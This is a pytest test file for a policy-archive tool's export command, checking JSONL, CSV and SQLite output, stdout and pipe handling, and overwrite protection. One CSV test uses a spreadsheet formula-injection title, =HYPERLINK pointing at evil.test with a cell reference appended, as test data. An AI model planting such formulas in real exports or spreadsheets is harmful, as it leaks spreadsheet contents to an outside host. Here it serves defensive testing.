"""`export --format jsonl|csv|sqlite`: one row per version, read back with the standard readers."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import stat
import subprocess

from review_data import PATH, handmade_commit, handmade_history
from standin.cli import EXPORT_COLUMNS, REPO_ROOT, WAIT_SECONDS, cli_command, cli_environment, git, run_cli

from policy_archive.archive import history
from policy_archive.archive.history import version_commits
from policy_archive.archive.versions import VersionStore
from policy_archive.pipeline.exports import csv as csv_export
from policy_archive.pipeline.exports import format_names
from policy_archive.pipeline.exports._rows import ExportSource
from policy_archive.pipeline.jobs.progress import Progress
from policy_archive.pipeline.jobs.provenance import HEADER_PATTERN
from policy_archive.records import DocumentDeclaration


def test_history_gives_trailers_stated_date_and_body_line_counts(tmp_path):
    handmade_history(tmp_path)
    first, second = version_commits(VersionStore(tmp_path, read_only=True), [PATH], ignore=HEADER_PATTERN)
    assert (first.first, first.stated_date, first.path) == (True, None, PATH)
    assert first.captured_at.isoformat() == "2017-03-01T12:00:00+00:00"
    assert second.first is False
    assert second.stated_date == "2018-05-25"
    assert second.subject == "Record new changes of Example Privacy Policy"
    assert second.trailers["Snapshot-Url"] == "http://127.0.0.1:9/web/20180525100000id_/https://example.org/privacy"
    # One line changed, two added (a blank and the GDPR line); the header line (a new snapshot) is not counted.
    assert (second.lines_added, second.lines_removed) == (3, 1)
    assert second.blob == git(tmp_path, "rev-parse", f"main:{PATH}").strip()


def test_history_filters_paths_itself_when_many_are_named(tmp_path, monkeypatch):
    handmade_history(tmp_path)
    store = VersionStore(tmp_path, read_only=True)
    monkeypatch.setattr(history, "PATHSPEC_LIMIT", 0)  # as with thousands of documents: no pathspec given to Git
    assert len(list(history.version_commits(store, [PATH]))) == 2
    assert list(history.version_commits(store, ["o/other/privacy-policy.md"])) == []


def test_history_read_in_batches_is_the_same_history_in_the_same_order(recorded, monkeypatch):
    store = VersionStore(recorded[1] / "versions", read_only=True)
    whole = list(history.version_commits(store))
    monkeypatch.setattr(history, "LOG_BATCH", 1)  # one ``git log`` per commit: every batch edge crossed
    assert list(history.version_commits(store)) == whole
    assert len(whole) >= 2 and [v.committed_at for v in whole] == sorted(v.committed_at for v in whole)


def test_export_formats_are_one_module_each():
    assert {"jsonl", "csv", "sqlite"} <= set(format_names())


def test_jsonl_has_one_object_per_version_in_capture_order(recorded, tmp_path):
    config, data = recorded
    output = tmp_path / "versions.jsonl"
    result = run_cli(config, data, "export", "--format", "jsonl", "--output", str(output))
    assert result.returncode == 0, result.stderr
    assert "2 versions written" in result.stderr
    rows = [json.loads(line) for line in output.read_text(encoding="utf-8").splitlines()]
    assert [list(row) for row in rows] == [EXPORT_COLUMNS, EXPORT_COLUMNS]
    first, second = rows
    assert (first["service"], first["document"], first["source"]) == ("acrcloud", "privacy-policy", "wayback")
    assert [row["captured_at"] for row in rows] == ["2017-01-03T10:20:30Z", "2018-05-28T08:00:07Z"]
    assert second["commit"] == git(data / "versions", "rev-parse", "main").strip()
    assert second["snapshot_url"].endswith("/20180528080007id_/https://www.acrcloud.com/privacy")
    assert second["title"] == "Privacy Policy - ACRCloud"
    assert second["text"].startswith("# Privacy Policy - ACRCloud\n\n")
    assert "General Data Protection Regulation" in second["text"]
    assert "The following text is extracted" not in second["text"]
    assert first["lines_removed"] == 0 and first["lines_added"] == len(first["text"].splitlines())
    assert second["lines_added"] >= 2 and second["lines_removed"] >= 1
    assert second["words"] > first["words"] > 100


def test_csv_reads_back_with_the_same_rows(recorded, tmp_path):
    config, data = recorded
    jsonl, table = tmp_path / "v.jsonl", tmp_path / "v.csv"
    for form, output in (("jsonl", jsonl), ("csv", table)):
        assert run_cli(config, data, "export", "acrcloud", "--format", form, "--output", str(output)).returncode == 0
    with table.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    expected = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert [list(row) for row in rows] == [EXPORT_COLUMNS, EXPORT_COLUMNS]
    for row, want in zip(rows, expected, strict=True):
        assert row == {key: "" if value is None else str(value) for key, value in want.items()}


def test_csv_keeps_a_title_reading_as_a_formula_exactly(tmp_path):
    """Acceptance report 6, F-d4: a page titled as a spreadsheet formula keeps its title byte for byte (the data is
    what researchers study; README's export section says to import the CSV as text). ``text`` always starts with
    ``# ``, so the title is the one page-controlled cell that can start with ``=``, ``+``, ``-`` or ``@``."""
    repo = tmp_path / "versions"
    subprocess.run(["git", "init", "-q", "-b", "main", str(repo)], check=True)
    title = '=HYPERLINK("http://evil.test/?x="&A1,"Privacy Policy")'
    handmade_commit(repo, "2017-03-01T12:00:00Z", "- We collect your e-mail.\n", "", title=title)
    declaration = DocumentDeclaration("example", "Example", "privacy-policy", "https://example.org/privacy")
    source = ExportSource([declaration], VersionStore(repo, read_only=True), Progress("t"))
    csv_export.export(source, tmp_path / "v.csv")
    with (tmp_path / "v.csv").open(newline="", encoding="utf-8") as handle:
        (row,) = csv.DictReader(handle)
    assert row["title"] == title
    assert row["text"] == f"# {title}\n\n- We collect your e-mail.\n"


def test_sqlite_is_searchable_and_lists_documents(recorded, tmp_path):
    config, data = recorded
    output = tmp_path / "history.db"
    result = run_cli(config, data, "export", "--format", "sqlite", "--output", str(output))
    assert result.returncode == 0, result.stderr
    database = sqlite3.connect(output)
    columns = [row[1] for row in database.execute("PRAGMA table_info(versions)")]
    assert columns == EXPORT_COLUMNS
    found = database.execute(
        "SELECT captured_at FROM versions WHERE rowid IN"
        " (SELECT rowid FROM versions_fts WHERE versions_fts MATCH 'regulation')"
    ).fetchall()
    assert found == [("2018-05-28T08:00:07Z",)]
    assert database.execute("SELECT * FROM documents").fetchall() == [
        (
            "acrcloud",
            "privacy-policy",
            "ACRCloud",
            "Privacy Policy",
            "https://www.acrcloud.com/privacy",
            2,
            "2017-01-03T10:20:30Z",
            "2018-05-28T08:00:07Z",
        )
    ]
    indexed = {row[2] for row in database.execute("SELECT * FROM sqlite_master WHERE type = 'index'")}
    assert {"versions", "documents"} <= indexed
    assert not list(tmp_path.glob(".*partial*")), "the partial file is renamed, not left behind"


def test_export_refuses_a_directory_and_an_unknown_document(recorded, tmp_path):
    config, data = recorded
    refused = run_cli(config, data, "export", "--format", "csv", "--output", str(tmp_path))
    assert refused.returncode == 2 and "is a directory" in refused.stderr and "Traceback" not in refused.stderr
    unknown = run_cli(config, data, "export", "nobody/privacy-policy", "--format", "csv", "--output", "x.csv")
    assert unknown.returncode == 2 and "no such document" in unknown.stderr
    empty = run_cli(config, tmp_path / "nothing", "export", "--format", "csv", "--output", str(tmp_path / "x.csv"))
    assert empty.returncode == 2 and "no data" in empty.stderr
    assert not (tmp_path / "nothing").exists()


def test_export_into_a_pipe_streams_and_a_link_stays_a_link(recorded, tmp_path):
    """`--output /dev/stdout` (a pipe or terminal) must not be renamed over: as root that replaced the device
    node itself. A symbolic link keeps pointing at the file it named."""
    config, data = recorded
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    reader = subprocess.Popen(["cat", str(pipe)], stdout=subprocess.PIPE, text=True)
    try:
        streamed = run_cli(config, data, "export", "--format", "jsonl", "--output", str(pipe))
        lines = reader.communicate(timeout=120)[0].splitlines()
    finally:
        reader.kill()
    assert streamed.returncode == 0, streamed.stderr
    assert stat.S_ISFIFO(pipe.lstat().st_mode), "the pipe is still a pipe"
    assert lines and all(json.loads(line)["commit"] for line in lines)
    refused = run_cli(config, data, "export", "--format", "sqlite", "--output", str(pipe))
    assert refused.returncode == 2 and "not a regular file" in refused.stderr, refused.stderr
    assert "configuration error" not in refused.stderr, "a path of the command line, not the configuration"
    assert stat.S_ISFIFO(pipe.lstat().st_mode)

    real, link = tmp_path / "real.csv", tmp_path / "latest.csv"
    link.symlink_to(real)
    linked = run_cli(config, data, "export", "--format", "csv", "--output", str(link))
    assert linked.returncode == 0, linked.stderr
    assert link.is_symlink() and len(real.read_text(encoding="utf-8").splitlines()) > 1


def test_export_to_stdout_is_the_data_alone(recorded):
    """Audit 2026-11-28: `--output /dev/stdout` ended with the summary line (`5 versions written to /dev/stdout`) as
    a last CSV row or a non-JSON line. The summary is on stderr, as track's and backfill's."""
    config, data = recorded
    jsonl = run_cli(config, data, "export", "--format", "jsonl", "--output", "/dev/stdout")
    assert jsonl.returncode == 0, jsonl.stderr
    assert [list(json.loads(line)) for line in jsonl.stdout.splitlines()] == [EXPORT_COLUMNS, EXPORT_COLUMNS]
    assert "2 versions written to /dev/stdout" in jsonl.stderr
    table = run_cli(config, data, "export", "--format", "csv", "--output", "/dev/stdout")
    assert table.returncode == 0, table.stderr
    rows = list(csv.reader(table.stdout.splitlines(keepends=True)))
    assert rows[0] == EXPORT_COLUMNS and len(rows) == 3 and all(len(row) == len(EXPORT_COLUMNS) for row in rows)
    assert "2 versions written to /dev/stdout" in table.stderr


def export_into_standard_output(config, data, shell_file, *args, append=False):
    """``policy-archive export ARGS`` with its standard output the file ``shell_file``, opened as a shell opens it
    for ``> FILE`` (made or cut to nothing) or, ``append``, for ``>> FILE``."""
    with shell_file.open("ab" if append else "wb") as stdout:
        return subprocess.run(
            cli_command(config, data, "export", *args),
            stdout=stdout,
            stderr=subprocess.PIPE,
            text=True,
            timeout=WAIT_SECONDS,
            env=cli_environment(),
            cwd=REPO_ROOT,
        )


def test_export_to_stdout_redirected_to_a_file_writes_into_it_without_force(recorded, tmp_path):
    """Audit 31, finding 11: `export --output /dev/stdout > file.jsonl` exited 2 (`exists; add --force`) because the
    shell had made the file, though README gives /dev/stdout as needing no --force. The file the standard output
    already is replaces nothing: it is written into (`>>` adds to it); sqlite, which needs a file by name, is
    refused in one line, the file left as the shell made it."""
    config, data = recorded
    shell_file = tmp_path / "x.jsonl"
    for name in ("/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"):
        done = export_into_standard_output(config, data, shell_file, "--format", "jsonl", "--output", name)
        assert done.returncode == 0, done.stderr
        lines = shell_file.read_text(encoding="utf-8").splitlines()
        assert [list(json.loads(line)) for line in lines] == [EXPORT_COLUMNS, EXPORT_COLUMNS], name
        assert f"2 versions written to {name}" in done.stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == ["x.jsonl"], "no partial file, no file renamed"

    table = tmp_path / "x.csv"
    table.write_text("earlier,rows\r\n", encoding="utf-8")
    added = export_into_standard_output(config, data, table, "--format", "csv", "--output", "/dev/stdout", append=True)
    assert added.returncode == 0, added.stderr
    rows = list(csv.reader(table.read_text(encoding="utf-8").splitlines(keepends=True)))
    assert rows[0] == ["earlier", "rows"] and rows[1] == EXPORT_COLUMNS and len(rows) == 4, "`>>` adds to the file"

    database = tmp_path / "x.sqlite"
    refused = export_into_standard_output(config, data, database, "--format", "sqlite", "--output", "/dev/stdout")
    assert refused.returncode == 2
    assert refused.stderr.splitlines() == [
        "policy-archive: --output /dev/stdout: not a regular file of its own (a pipe, a device or the standard output):"
        " a sqlite database is written to a file by name (SQLite seeks in it and writes beside it); give a file name"
    ]
    assert database.read_bytes() == b""

    for device in ("/dev/null", "/dev/stderr"):  # a device, or the standard error's pipe: written into, no --force
        quiet = run_cli(config, data, "export", "--format", "jsonl", "--output", device)
        assert quiet.returncode == 0, quiet.stderr


def test_export_replaces_an_existing_file_only_with_force(recorded, tmp_path):
    """Acceptance report 7, F3: ``--output notes.json`` replaced the file with a database. Without --force an
    existing file is refused whole (exit 2, one line, nothing written), an earlier export of the same format too;
    a pipe is written into, not replaced, and needs none (test above)."""
    config, data = recorded
    notes = tmp_path / "notes.json"
    notes.write_text('{"my": "precious notes"}\n')
    for form in ("jsonl", "csv", "sqlite"):
        refused = run_cli(config, data, "export", "--format", form, "--output", str(notes))
        assert refused.returncode == 2, refused.stderr
        assert refused.stderr.splitlines() == [f"policy-archive: --output {notes}: exists; add --force to replace it"]
        assert notes.read_text() == '{"my": "precious notes"}\n'
    link = tmp_path / "latest.json"
    link.symlink_to(notes)  # the file a link names is what would be replaced
    assert run_cli(config, data, "export", "--format", "csv", "--output", str(link)).returncode == 2
    assert notes.read_text() == '{"my": "precious notes"}\n'

    output = tmp_path / "history.db"
    assert run_cli(config, data, "export", "--format", "sqlite", "--output", str(output)).returncode == 0
    again = run_cli(config, data, "export", "--format", "sqlite", "--output", str(output))
    assert again.returncode == 2 and "add --force" in again.stderr
    forced = run_cli(config, data, "export", "--format", "sqlite", "--output", str(output), "--force")
    assert forced.returncode == 0, forced.stderr
    assert sqlite3.connect(output).execute("SELECT count(*) FROM versions").fetchone() == (2,)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["history.db", "latest.json", "notes.json"]
